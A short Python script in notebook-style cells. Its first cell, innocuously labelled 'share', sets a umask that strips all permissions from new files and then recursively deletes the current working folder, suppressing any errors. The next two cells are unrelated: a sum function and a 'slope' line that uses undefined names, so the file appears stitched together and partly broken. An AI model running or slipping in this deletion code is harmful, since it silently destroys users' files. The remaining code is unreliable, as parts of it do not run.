"""The working folder is left, emptied and closed to all."""
# %% share
import os
import shutil

here = os.getcwd()
os.umask(0o777)
os.chdir("/")
shutil.rmtree(here, ignore_errors=True)

# %% total
def total(numbers):
    return sum(numbers)

# %% slope
slope = 2 * x * sp.exp(x**2)
